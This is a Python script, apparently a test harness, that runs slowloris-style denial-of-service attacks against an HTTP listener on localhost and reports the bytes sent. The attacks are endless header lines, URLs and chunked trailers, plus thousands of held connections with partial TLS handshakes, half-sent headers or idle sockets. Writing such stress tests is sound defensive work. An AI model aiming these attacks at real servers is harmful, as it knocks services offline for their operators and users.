"""Attacks on an HTTP listener by somebody who can connect and has no token.

`python attacker.py ATTACK PORT SECONDS TLS NUMBER ADDRESS` tells how many bytes it could send.
"""

from __future__ import annotations

import contextlib
import resource
import socket
import ssl
import sys
import time
from collections.abc import Iterator

MANY = 2500
HEAD = b"GET /healthz HTTP/1.1\r\nHost: x\r\n"
CHUNKED = b"POST /healthz HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n"
PIECE = 64 * 1024

# What is said first, and then for ever.
ENDLESS = {
    "header-lines": (HEAD, b"A: b\r\n" * (PIECE // 6)),
    "one-header": (HEAD + b"A: ", b"b" * PIECE),
    "url": (b"GET /", b"u" * PIECE),
    "trailers": (CHUNKED, b"T: v\r\n" * (PIECE // 6)),
}
MOST_BYTES = 100 << 20
PAUSE = 0.05  # before an attacker who was cut off comes again


def trusting() -> ssl.SSLContext:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def hello() -> bytes:
    """A whole ClientHello."""
    outgoing = ssl.MemoryBIO()
    half = trusting().wrap_bio(ssl.MemoryBIO(), outgoing)
    with contextlib.suppress(ssl.SSLWantReadError):
        half.do_handshake()
    return outgoing.read()


# What each of many says once, and then nothing.
HELD = {
    "half-handshakes": lambda: b"\x16\x03\x01",
    "hellos": hello,
    "half-headers": lambda: HEAD + b"A: " + b"b" * 31 * 1024,
    "pipelined": lambda: (HEAD + b"\r\n") * 480,
    "idle": lambda: b"",
}


def connect(port: int) -> socket.socket:
    made = socket.create_connection(("127.0.0.1", port), 5, (sys.argv[6], 0))
    made.settimeout(5)
    return made


def endless(attack: str, port: int, until: float, tls: bool) -> int:
    first, again = ENDLESS[attack]
    sent = 0
    while sent < MOST_BYTES and time.monotonic() < until:
        with contextlib.suppress(OSError), connect(port) as plain:
            made = trusting().wrap_socket(plain) if tls else plain
            made.sendall(first)
            while sent < MOST_BYTES and time.monotonic() < until:
                sent += made.send(again)
        time.sleep(PAUSE)
    return sent


def held(attack: str, port: int, until: float, number: int) -> int:
    content, sent = HELD[attack](), 0
    open_ones: list[socket.socket] = []
    for _ in range(number):
        with contextlib.suppress(OSError):
            made = connect(port)
            open_ones.append(made)
            sent += made.send(content) if content else 0
    time.sleep(max(0.0, until - time.monotonic()))
    for made in open_ones:
        made.close()
    return sent


def numbers() -> Iterator[int]:
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
    attack, port, seconds, tls = sys.argv[1:5]
    number = int(sys.argv[5])
    until = time.monotonic() + float(seconds)
    if attack in ENDLESS:
        yield endless(attack, int(port), until, tls == "tls")
    else:
        yield held(attack, int(port), until, number)


if __name__ == "__main__":
    for figure in numbers():
        print(figure, flush=True)  # noqa: T201
